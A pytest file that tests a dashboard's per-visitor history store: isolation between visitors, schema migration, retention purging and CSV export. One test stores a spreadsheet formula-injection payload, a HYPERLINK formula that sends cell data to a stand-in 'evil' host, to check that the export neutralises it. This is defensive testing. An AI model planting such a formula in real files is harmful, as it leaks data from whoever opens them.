"""History per visitor (public mode): nobody reads, searches, exports or deletes another's rows."""

from __future__ import annotations

import sqlite3
import time

from PIL import Image

from dashboard.history import HistoryRecord, HistoryStore


def _record(prompt: str, output: str = "red") -> HistoryRecord:
    return HistoryRecord.from_generation(checkpoint="/runs/demo/checkpoint-1", prompt=prompt, output=output,
                                         settings={}, timings={}, image=Image.new("RGB", (8, 8), "red"))


def test_visitors_see_only_their_own_rows(tmp_path):
    store = HistoryStore(tmp_path / "h.sqlite")
    a, b = store.scoped("token-a"), store.scoped("token-b")
    id_a = a.add(_record("secret of a"))
    id_b = b.add(_record("question of b"))
    assert [r.prompt for r in a.list()] == ["secret of a"]
    assert [r.prompt for r in b.list()] == ["question of b"]
    assert b.list(text="secret") == [] and a.count() == 1 and b.count() == 1
    assert b.get(id_a) is None and a.get(id_a) is not None
    assert [row["prompt"] for row in b.export_rows()] == ["question of b"]
    assert "visitor" not in b.export_rows()[0]  # the token itself is never exported
    assert b.distinct("checkpoint") == ["/runs/demo/checkpoint-1"]
    assert b.delete([id_a, id_b]) == 1  # B's "delete all" cannot touch A's row
    assert a.count() == 1 and b.count() == 0
    assert b.clear() == 0 and a.count() == 1
    assert store.count() == 1  # local (unscoped) view sees everything


def test_local_mode_is_one_shared_history(tmp_path):
    store = HistoryStore(tmp_path / "h.sqlite")
    store.add(_record("one"))
    HistoryStore(tmp_path / "h.sqlite").add(_record("two"))
    assert sorted(r.prompt for r in store.list()) == ["one", "two"]


def test_old_database_gains_the_visitor_column(tmp_path):
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE generations (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at REAL NOT NULL, "
                     "run TEXT, checkpoint TEXT NOT NULL, prompt TEXT NOT NULL, prefill TEXT NOT NULL DEFAULT '', "
                     "settings TEXT NOT NULL, image_name TEXT, image_digest TEXT, example_id TEXT, thumbnail BLOB, "
                     "image BLOB, output TEXT NOT NULL, timings TEXT NOT NULL, mode TEXT NOT NULL DEFAULT 'single')")
        conn.execute("INSERT INTO generations (created_at, checkpoint, prompt, settings, output, timings) "
                     "VALUES (1, 'c', 'old row', '{}', 'o', '{}')")
    store = HistoryStore(path)
    assert [r.prompt for r in store.list()] == ["old row"]
    assert store.scoped("someone").list() == []  # rows without a visitor belong to nobody in public mode


def test_retention_purges_old_rows(tmp_path):
    store = HistoryStore(tmp_path / "h.sqlite")
    old = _record("old")
    old.created_at = time.time() - 8 * 24 * 3600
    store.scoped("v").add(old)
    store.scoped("v").add(_record("new"))
    assert store.purge_older_than(7 * 24 * 3600) == 1
    assert [r.prompt for r in store.scoped("v").list()] == ["new"]


def test_history_csv_export_is_formula_safe_and_path_free(tmp_path):
    """On main the History CSV wrote ``=HYPERLINK(…)`` prompts as live formulas and absolute run paths."""
    import csv
    import io

    from dashboard.csv_export import rows_csv_bytes
    from dashboard.public import scrub_paths

    runs = tmp_path / "runs"
    store = HistoryStore(tmp_path / "h.sqlite").scoped("v")
    store.add(HistoryRecord.from_generation(
        checkpoint=runs / "demo" / "checkpoint-1", run=runs / "demo", prompt='=HYPERLINK("https://evil/?"&A1,"x")',
        output="@SUM(1)", settings={"max_new_tokens": 8}, timings={}, image=Image.new("RGB", (8, 8))))
    rows = scrub_paths(store.export_rows(), [runs], env={"VLMLAB_PUBLIC": "1"})
    text = rows_csv_bytes(rows, drop=("settings", "timings")).decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["prompt"].startswith("'=HYPERLINK") and row["output"] == "'@SUM(1)"
    assert row["run"] == "demo" and row["checkpoint"] == "demo/checkpoint-1" and str(tmp_path) not in text
    local = scrub_paths(store.export_rows(), [runs], env={})  # local use keeps the real paths
    assert local[0]["run"] == str(runs / "demo")
